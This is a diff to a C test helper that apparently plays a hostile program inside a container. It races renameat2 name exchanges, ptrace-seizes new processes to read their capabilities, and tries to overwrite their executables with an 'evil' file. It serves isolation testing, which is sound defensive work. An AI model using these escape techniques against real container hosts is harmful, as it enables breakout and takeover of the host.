@@ -1,9 +1,10 @@
 /* What a hostile program in a container tries, as a static program that tests bind into one.
  *
  *     attack call NUMBER...        makes each system call with arguments of -1 and prints its errno
- *     attack swap A B              exchanges two names for ever (renameat2)
+ *     attack swap A B...           exchanges a name with others in turn, for ever (renameat2)
  *     attack watch SECONDS EVIL    looks at every process that appears: its descriptors, its memory, its program
- *                                  (which it tries to overwrite with EVIL); prints what it got
+ *                                  (which it tries to overwrite with EVIL); prints what it got, with the traced
+ *                                  process's capabilities
  *     attack open N...             says which of the descriptors are open
  */
 #define _GNU_SOURCE
@@ -33,11 +34,12 @@ static int call(int count, char **numbers)
     return 0;
 }
 
-static int swap(const char *a, const char *b)
+static int swap(int count, char **names)
 {
-    for (;;)
-        if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, EXCHANGE) < 0 && errno != ENOENT)
-            return 1;
+    for (int i = 1;; i = i + 1 < count ? i + 1 : 1)
+        for (int back = 0; back < 2; back++)
+            if (syscall(SYS_renameat2, AT_FDCWD, names[0], AT_FDCWD, names[i], EXCHANGE) < 0 && errno != ENOENT)
+                return 1;
 }
 
 /* Files of the container itself are no catch: those below its own mounts, pipes, sockets, its null device. */
@@ -80,7 +82,6 @@ static void look_at_program(const char *pid, const char *evil)
     target[size] = 0;
     if (!strncmp(target, "/bin/", 5) || !strcmp(target, "/estiba-attack"))
         return;
-    printf("program of %s: %s\n", pid, target);
     int program = open(path, O_RDONLY | O_CLOEXEC);
     if (program < 0)
         return;
@@ -94,21 +95,27 @@ static void look_at_program(const char *pid, const char *evil)
     close(program);
 }
 
+/* The container's own programs are no catch: only what has not yet become one. */
 static void look_at_memory(const char *pid)
 {
-    char path[PATH_MAX], program[PATH_MAX];
+    char path[PATH_MAX], line[512];
     pid_t number = atoi(pid);
-    if (ptrace(PTRACE_SEIZE, number, 0, 0) == 0) {
-        /* what the container itself started may be traced: only what is not yet its program is a catch */
-        ptrace(PTRACE_INTERRUPT, number, 0, 0);
-        waitpid(number, NULL, __WALL);
-        snprintf(path, sizeof(path), "/proc/%s/exe", pid);
-        ssize_t size = readlink(path, program, sizeof(program) - 1);
-        program[size > 0 ? size : 0] = 0;
-        if (strncmp(program, "/bin/", 5))
-            printf("traced %s: %s\n", pid, program);
-        ptrace(PTRACE_DETACH, number, 0, 0);
-    }
+    if (ptrace(PTRACE_SEIZE, number, 0, 0) < 0)
+        return;
+    ptrace(PTRACE_INTERRUPT, number, 0, 0);
+    waitpid(number, NULL, __WALL);
+    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
+    ssize_t size = readlink(path, line, sizeof(line) - 1);
+    line[size > 0 ? size : 0] = 0;
+    int own = size <= 0 || !strncmp(line, "/bin/", 5); /* or it has ended */
+    snprintf(path, sizeof(path), "/proc/%s/status", pid);
+    FILE *status = own ? NULL : fopen(path, "re");
+    while (status && fgets(line, sizeof(line), status))
+        if (!strncmp(line, "CapPrm:", 7))
+            printf("traced %s", line + 8);
+    if (status)
+        fclose(status);
+    ptrace(PTRACE_DETACH, number, 0, 0);
 }
 
 static int watch(int seconds, const char *evil)
@@ -145,8 +152,8 @@ int main(int argc, char **argv)
 {
     if (argc >= 3 && !strcmp(argv[1], "call"))
         return call(argc - 2, argv + 2);
-    if (argc == 4 && !strcmp(argv[1], "swap"))
-        return swap(argv[2], argv[3]);
+    if (argc >= 4 && !strcmp(argv[1], "swap"))
+        return swap(argc - 2, argv + 2);
     if (argc == 4 && !strcmp(argv[1], "watch"))
         return watch(atoi(argv[2]), argv[3]);
     if (argc >= 3 && !strcmp(argv[1], "open"))
